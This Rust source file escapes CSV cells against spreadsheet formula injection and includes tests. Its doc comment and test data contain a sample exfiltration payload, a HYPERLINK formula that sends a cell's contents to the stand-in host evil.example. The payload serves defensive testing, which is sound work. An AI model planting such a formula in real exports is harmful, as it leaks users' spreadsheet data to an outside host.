//! Spreadsheet formula injection: a CSV cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is run as a formula by Excel, LibreOffice and Google Sheets
//! (`=HYPERLINK("http://evil.example/?x="&A1,"click")` sends the row away). Every text cell a CSV
//! of Jetson's holds passes through [`cell`] first, which puts a `'` before such a cell, as OWASP
//! advises, so a spreadsheet shows it as text.

use std::borrow::Cow;

const STARTS_A_FORMULA: &[char] = &['=', '+', '-', '@', '\t', '\r'];

pub fn cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(STARTS_A_FORMULA) { Cow::Owned(format!("'{text}")) } else { Cow::Borrowed(text) }
}

#[cfg(test)]
mod tests {
    use super::cell;

    #[test]
    fn cells_that_a_spreadsheet_would_run_are_text_and_others_are_untouched() {
        for formula in
            ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
        {
            assert_eq!(cell(formula), format!("'{formula}"));
        }
        for plain in ["Export fails", "", "a=b", "ann@acme.io", " =1"] {
            assert_eq!(cell(plain), plain);
        }
    }
}
